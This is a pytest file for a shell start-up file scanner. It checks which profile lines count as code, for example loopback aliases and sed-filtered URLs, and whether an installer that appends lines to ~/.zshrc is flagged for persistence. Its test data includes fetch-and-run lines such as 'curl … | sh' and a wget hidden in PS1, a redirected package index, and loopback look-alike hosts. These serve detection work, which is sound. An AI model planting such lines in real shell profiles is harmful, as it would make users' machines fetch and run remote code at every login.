"""A start-up file line that holds an address only as data runs nothing: an address on this machine
(an alias that opens a local notebook server's page) or an address inside a text filter's pattern (a
prompt that trims the scheme off a cluster URL with ``sed``). An address anywhere else in the line (a
fetch, an environment variable a tool reads, a look-alike of the loopback name) still counts."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors
from skillgrade.rules.security.behaviour.values import runs_code

DATA_ONLY = [
    "alias nb='xdg-open http://127.0.0.1:8888/lab?token= >/dev/null 2>&1'",
    "alias grafana='open http://localhost:3000/dashboards'",
    "PS1=\"[$(kubectl config view --minify -o jsonpath={.clusters[0].cluster.server} | sed -e 's|https://||')] \"",
    "precmd() { RPS1=\"$(git remote get-url origin 2>/dev/null | awk -F'https://github.com/' '{print $2}')\" }",
]
STILL_CODE = [
    "alias nb='curl -s http://127.0.0.1:8888/boot | sh'",  # a fetch, whatever the host
    "export PIP_INDEX_URL=https://pkgs.mirror-pool.example/simple",  # a tool reads this address
    "alias web='open http://localhost.mirror-pool.example/x'",  # a look-alike of the loopback name
    "alias web='xdg-open http://127.0.0.1.nip.io/x'",
    "alias web='open http://localhost:8080@pages.mirror-pool.example/x'",  # a user name, then the real host
    'PS1="$(echo x | sed s/a/b/; wget -qO- https://prompt.mirror-pool.example/p)"',  # the address is wget's
]


@pytest.mark.parametrize("line", DATA_ONLY)
def test_an_address_only_as_data_runs_nothing(line: str) -> None:
    assert not runs_code(line)


@pytest.mark.parametrize("line", STILL_CODE)
def test_an_address_a_command_may_fetch_still_counts(line: str) -> None:
    assert runs_code(line)


def _installer(block: str) -> dict[str, str]:
    script = f"#!/usr/bin/env bash\nset -eu\ncat >> \"$HOME/.zshrc\" <<'RC'\n{block}\nRC\necho configured\n"
    return {"scripts/configure-shell.sh": script}


def test_a_profile_block_with_local_pages_and_filtered_urls_is_no_error(tmp_path: Path) -> None:
    block = "\n".join(['export PATH="$HOME/.local/bin:$PATH"', *DATA_ONLY])
    assert not [e for e in scan_errors(tmp_path, _installer(block)) if e[0] == "PERSISTENCE"]


def test_a_profile_block_that_fetches_is_still_an_error(tmp_path: Path) -> None:
    block = "\n".join(['export PATH="$HOME/.local/bin:$PATH"', DATA_ONLY[0], STILL_CODE[-1]])
    assert any(rule == "PERSISTENCE" for rule, _, _ in scan_errors(tmp_path, _installer(block)))
